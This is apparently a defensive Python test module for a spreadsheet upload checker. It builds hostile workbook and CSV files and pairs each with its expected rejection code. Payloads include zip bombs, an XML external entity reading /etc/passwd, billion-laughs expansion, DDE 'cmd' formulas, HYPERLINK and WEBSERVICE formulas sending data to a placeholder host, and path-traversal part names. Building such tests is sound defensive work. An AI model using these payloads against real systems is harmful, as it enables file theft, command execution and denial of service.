"""Files made to harm, each with its answer. `python -m tests.holds.intake.hostile` prints them as a table."""

import sys
import tempfile
from pathlib import Path

from tests.holds.intake.corpus import MARKER, PLAIN, measure, parts, sheet
from tests.holds.intake.hostile_files import (
    LAUGHS,
    PEOPLE,
    Make,
    changed_ods,
    circular_sectors,
    cut_off,
    encrypted_parts,
    formula,
    laughing_ods,
    long_string,
    lying_bomb,
    macro_sheet,
    million_parts,
    named_pipe,
    nested_bomb,
    overlapping_parts,
    raw,
    symbolic_link,
    two_gigabytes,
    with_part,
    xlsx,
)
from tests.holds.intake.old_formats import compound, write_xls, write_xlsb
from tests.holds.intake.open_formats import write_ods, write_xlsx

_ENTITY = f'<!DOCTYPE sst [<!ENTITY x SYSTEM "file:///etc/passwd">]><sst><si><t>&x;{MARKER}</t></si></sst>'
_MANY = "".join(f'<sheet name="S{n}" sheetId="{n}" r:id="rId1"/>' for n in range(1_000_000))
_SHEETS = parts()["xl/workbook.xml"]
_BIG = f"<sst><si><t>{'a' * 2**20}</t></si></sst>"
_REPEATED = "".join(f'<row r="{r}"><c r="A{r}" t="s"><v>0</v></c></row>' for r in range(1, 3001))
_DDE = '<externalLink xmlns="x"><ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>'
_RELATIONS = parts()["xl/_rels/workbook.xml.rels"]

CASES: dict[str, tuple[str, Make]] = {
    "a list as it should be": ("read", xlsx()),
    "zip bomb": ("file.bomb", xlsx(xl__worksheets__sheet1_xml=sheet(" " * 300_000_000))),
    "zip bomb within a zip": ("file.bomb", nested_bomb),
    "zip bomb that claims to be small": ("file.unreadable", lying_bomb),
    "zip parts that share their bytes": ("file.bomb", overlapping_parts),
    "external entity": ("file.entities", xlsx(xl__sharedStrings_xml=_ENTITY)),
    "external entity in UTF-16": ("file.entities", xlsx(xl__sharedStrings_xml=_ENTITY.encode("utf-16"))),
    "billion laughs": (
        "file.entities",
        xlsx(
            xl__sharedStrings_xml=f'<!DOCTYPE x [<!ENTITY l0 "ha">{LAUGHS}]><sst><si><t>&l9;</t></si></sst>'
        ),
    ),
    "billion laughs in an ODS": ("file.entities", laughing_ods),
    "formula that starts a program": ("file.active_content", formula("cmd|'/C calc'!A0")),
    "formula HYPERLINK": (
        "file.active_content",
        formula("HYPERLINK(&quot;http://x.test/&quot;&amp;A2,&quot;x&quot;)"),
    ),
    "formula WEBSERVICE": ("file.active_content", formula("WEBSERVICE(&quot;http://x.test/&quot;)")),
    "link to another program": ("file.active_content", xlsx(xl__externalLinks__externalLink1_xml=_DDE)),
    "formula in text": ("read", raw(f"{PEOPLE}\"=cmd|'/C calc'!A0\"\n".encode())),
    "a million columns, text": ("file.too_many_columns", raw(b"A-Number,Name\n" + b"x," * 1_000_000 + b"\n")),
    "a million columns, workbook": (
        "file.bomb",
        xlsx(xl__worksheets__sheet1_xml=sheet("<row>" + "<c><v>1</v></c>" * 1_000_000 + "</row>")),
    ),
    "one cell in the farthest corner": (
        "file.too_large",
        xlsx(
            xl__worksheets__sheet1_xml=sheet(
                '<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
            )
        ),
    ),
    "a million sheets": (
        "file.too_large",
        xlsx(xl__workbook_xml=str(_SHEETS).replace("</sheets>", f"{_MANY}</sheets>")),
    ),
    "a million parts": ("file.too_large", million_parts),
    "a string of 2 GB, declared": ("file.bomb", two_gigabytes),
    "a string of 2 GB, XLSB": ("file.unreadable", long_string),
    "a line without end": ("file.long_line", raw(b"a" * 64_000_000)),
    "one long string in 3,000 cells": (
        "file.too_large",
        xlsx(xl__sharedStrings_xml=_BIG, xl__worksheets__sheet1_xml=sheet(_REPEATED)),
    ),
    "ODS rows repeated to the end": (
        "file.unreadable",
        changed_ods(
            '<table:table-row table:number-rows-repeated="1048576"><table:table-cell '
            'office:value-type="float" office:value="1" table:number-columns-repeated="16384"/>'
            "</table:table-row>"
        ),
    ),
    "pattern that traps the search": (
        "file.too_slow",
        xlsx(xl__worksheets__sheet1_xml=sheet("<f/><c " + "r='A1' " * 400_000)),
    ),
    "PDF named .xlsx": ("file.unsupported", raw(b"%PDF-1.7\n" + MARKER.encode(), "list.xlsx")),
    "program named .csv": ("file.unsupported", raw(b"\x7fELF\x02\x01\x01" + bytes(600), "list.csv")),
    "text named .xlsx": ("read", raw(f"{PEOPLE}GARCIA\n".encode(), "list.xlsx")),
    "workbook named .csv": ("read", lambda folder: write_xlsx(folder / "list.csv", [PLAIN])),
    "encrypted .xlsx": (
        "file.encrypted",
        raw(compound({"EncryptedPackage": bytes(9000), "EncryptionInfo": b"x"}), "list.xlsx"),
    ),
    "encrypted zip": ("file.encrypted", encrypted_parts),
    "encrypted .ods": ("file.encrypted", changed_ods("", "<manifest><encryption-data/></manifest>")),
    "encrypted .xls": (
        "file.encrypted",
        raw(compound({"Workbook": b"\x2f\x00\x02\x00\x01\x00"}), "list.xls"),
    ),
    "truncated .xlsx": ("file.unreadable", cut_off(write_xlsx, 0.7)),
    "truncated .xls": ("file.unreadable", cut_off(write_xls, 0.7)),
    "truncated .xlsb": ("file.unreadable", cut_off(write_xlsb, 0.7)),
    "truncated .ods": ("file.unreadable", cut_off(write_ods, 0.7)),
    "macro (.xlsm)": ("file.macros", xlsx(**{"xl/vbaProject.bin": b"\xcc\x61"})),
    "macro sheet (.xlsm)": ("file.macros", xlsx(xl__macrosheets__sheet1_xml=sheet())),
    "macro sheet (.xls)": ("file.macros", macro_sheet),
    "strings that lead in a circle": (
        "file.unreadable",
        xlsx(**{"xl/_rels/workbook.xml.rels": str(_RELATIONS).replace("worksheets/sheet1", "workbook")}),
    ),
    "sectors that lead in a circle": ("file.unreadable", circular_sectors),
    "string that is not there": (
        "file.unreadable",
        xlsx(xl__worksheets__sheet1_xml=sheet('<row r="1"><c r="A1" t="s"><v>99</v></c></row>')),
    ),
    "relation to nothing": (
        "file.unreadable",
        xlsx(**{"xl/_rels/workbook.xml.rels": str(_RELATIONS).replace("sheet1.xml", "nowhere.xml")}),
    ),
    "part named ../../etc/cron.d/x": ("file.unsafe_names", with_part("../../etc/cron.d/x")),
    "part named /etc/passwd": ("file.unsafe_names", with_part("/etc/passwd")),
    "part named C:\\x.dll": ("file.unsafe_names", with_part("C:\\x.dll")),
    "quotation mark left open": ("file.quotes", raw(b'A-Number,Name\n"' + b"x,y\n" * 5_000_000)),
    "symbolic link": ("file.not_regular", symbolic_link),
    "named pipe": ("file.not_regular", named_pipe),
    "device": ("file.not_regular", lambda _: Path("/dev/zero")),
    "folder": ("file.not_regular", lambda folder: folder),
}


def main() -> None:
    """Every case as a table for docs/intake.md."""
    sys.stdout.write("| File | Answer | Seconds | MB | What is said |\n|---|---|---:|---:|---|\n")
    for name, (_, make) in CASES.items():
        with tempfile.TemporaryDirectory() as folder:
            found, _said = measure(make(Path(folder)), Path(folder))
            line = (
                f"| {name} | `{found.code}` | {found.seconds:.1f} | {found.megabytes} | {found.sentence} |\n"
            )
        sys.stdout.write(line)
        sys.stdout.flush()


if __name__ == "__main__":
    main()
